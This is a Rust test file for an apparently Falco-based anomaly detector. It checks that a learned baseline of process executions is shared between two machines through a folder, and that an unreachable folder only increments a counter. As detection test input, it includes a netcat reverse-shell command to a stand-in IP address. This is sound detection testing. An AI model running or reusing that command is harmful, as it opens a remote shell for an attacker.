//! One baseline for the Falcos of two machines, by way of a folder.

use std::ffi::CString;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::support::{Host, configured, exec};

fn sharing(directory: &Path, place: &Path, machine: &str) -> CString {
    let place = place.display();
    configured(
        directory,
        &format!(
            r#""feed": "falco", "workload": "web", "learn_executions": 5, "learn_for": "0s",
               "shared": "file://{place}", "shared_machine": "{machine}", "shared_interval": "1s""#
        ),
    )
}

fn eventually(host: &mut Host, name: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while host.metric(name) == 0 {
        assert!(Instant::now() < deadline, "{name} stays at 0");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn what_one_machine_learned_another_knows() {
    let [old, new, place] = [(); 3].map(|()| tempfile::tempdir().expect("a directory"));
    let mut first = Host::new(&sharing(old.path(), place.path(), "old"));
    for pid in 100..140 {
        first.event(exec(pid, 1, "/usr/sbin/nginx -g daemon").event());
    }
    eventually(&mut first, "shared_sent");
    drop(first);

    let mut second = Host::new(&sharing(new.path(), place.path(), "new"));
    eventually(&mut second, "shared_received");
    assert_eq!(second.metric("shared_machines"), 1);
    let mut score = |pid, line: &str| {
        let event = second.event(exec(pid, 1, line).event());
        second.field(&event, "anomaly.score")
    };
    // It may still be told when the first one comes.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut pids = 200..;
    while score(pids.next().expect("endless"), "/usr/sbin/nginx -g daemon").as_deref() != Some("0.0000") {
        assert!(Instant::now() < deadline, "it is not warm");
        std::thread::sleep(Duration::from_millis(50));
    }
    let news = score(300, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").expect("it is scored at once");
    assert!(news.as_str() >= "0.8500", "{news}");
    for counted in ["shared_failed", "shared_corrupt", "shared_conflicts", "panics"] {
        assert_eq!(second.metric(counted), 0, "{counted}");
    }
    assert!(second.metric("shared_age") < 30);
}

#[test]
fn a_place_out_of_reach_changes_nothing_but_a_counter() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&sharing(directory.path(), Path::new("/nowhere"), "a"));
    for pid in 100..140 {
        host.event(exec(pid, 1, "/usr/sbin/nginx -g daemon").event());
    }
    let event = host.event(exec(200, 1, "/usr/sbin/nginx -g daemon").event());
    assert_eq!(host.field(&event, "anomaly.score").as_deref(), Some("0.0000"));
    eventually(&mut host, "shared_failed");
    let begun = Instant::now();
    drop(host);
    assert!(begun.elapsed() < Duration::from_secs(5), "it holds up the end for {:?}", begun.elapsed());
}
